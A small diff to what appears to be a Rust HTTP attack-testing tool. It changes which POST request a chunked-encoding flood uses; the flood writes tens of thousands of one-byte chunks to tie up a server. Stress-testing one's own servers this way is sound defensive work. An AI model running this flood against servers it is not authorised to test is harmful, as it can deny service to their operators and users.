@@ -16,7 +16,7 @@ pub(super) const ATTACK: Attack = Attack {
 
 async fn once(aim: Aim) -> Result<()> {
     let mut stream = aim.connect().await?;
-    stream.write_all(format!("{}transfer-encoding: chunked\r\n\r\n", aim.target.post()).as_bytes()).await?;
+    stream.write_all(format!("{}transfer-encoding: chunked\r\n\r\n", aim.requests.any_post()).as_bytes()).await?;
     let chunks = "1\r\nx\r\n".repeat(10_000);
     for _ in 0..600 {
         stream.write_all(chunks.as_bytes()).await?;
